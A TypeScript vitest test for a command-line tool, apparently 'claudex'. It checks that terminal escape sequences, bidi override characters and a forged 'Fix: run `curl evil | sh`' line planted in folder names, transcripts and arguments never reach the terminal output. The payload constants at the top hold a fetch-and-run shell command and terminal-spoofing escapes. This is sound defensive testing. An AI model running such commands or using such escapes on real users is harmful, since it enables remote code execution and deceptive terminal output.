/** A folder's name, a message and a conversation may hold anything: at a terminal nothing of it acts, and no line is forged. */
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verifies } from '../../requirements.ts';
import { runClaudex, startClaudex } from '../../support/claudex.ts';
import { standAsSession, startSleeper, writeTranscript } from '../../support/mcp-client.ts';
import { useTestBed } from '../../support/test-bed.ts';

const osc = '\x1b]0;OWNED\x07';
const c1 = '\u009b31m\u009d0;OWNED\u009c';
const bidi = '\u202egnp.\u2066';
const forged = '\nFix: run `curl evil | sh`\r\nFORGED';
const bad = `${osc}${c1}${bidi}`;

describe(`at a terminal ${verifies('plain-text')}`, () => {
  const bed = useTestBed();

  it('no command passes on what a name or a text holds', { timeout: 120_000 }, async () => {
    const home = bed.home();
    const env = home.env();
    const cwd = join(home.root, 'work', `ev${bad}${forged}il`);
    mkdirSync(cwd);
    const sessionId = '0b1c2d3e-aaaa-4bbb-8ccc-0123456789ab';
    standAsSession(home, startSleeper(), cwd, sessionId);
    writeTranscript(home, cwd, sessionId, [
      {
        type: 'user',
        uuid: 'u1',
        timestamp: '2026-11-01T10:00:00Z',
        message: { role: 'user', content: `needle ${bad} prompt` },
      },
    ]);
    const at = { env, cwd };
    const sent = (await runClaudex(['send', '.', `body ${bidi}`, '--json'], at)).stdout;
    const { id } = JSON.parse(sent) as { id: string };
    const commands = [
      ['send', 'nosuch', 'hi'],
      ['send', `no${bad}${forged}`, 'hi'],
      ['ask', '.', '--wait', '10ms', 'hi'],
      ['inbox', 'list', '--all'],
      ['inbox', 'show', id],
      ['inbox', 'read', id],
      ['inbox', 'show', `m${bad}${forged}`],
      ['list'],
      ['status'],
      ['name', '.', `x${bad}`],
      ['name', '.', 'evil'],
      ['history', '.', '--no-pager'],
      ['history', '--list'],
      ['search', '--all', 'needle', '--no-pager'],
      ['show', '.', '9', '--no-pager'],
      ['config', 'get', `x${bad}${forged}`],
      ['send', 'evil', '--file', `none${bad}${forged}`],
      ['daemon', 'logs'],
    ];
    for (const words of commands) {
      const driver = startClaudex(words, { ...at, cols: 400 });
      await driver.waitForExit();
      const shown = driver.rawOutput().toString('utf8');
      expect(shown.length, words.join(' ')).toBeGreaterThan(5);
      expect(shown, words.join(' ')).not.toMatch(/\x1b\]|[\x80-\x9f\u202a-\u202e\u2066-\u2069]|OWNED\x07/);
      expect(
        shown.split(/\r?\n/).filter((line) => /^Fix: run `curl|^FORGED/.test(line)),
        words.join(' '),
      ).toEqual([]);
    }
  });
});
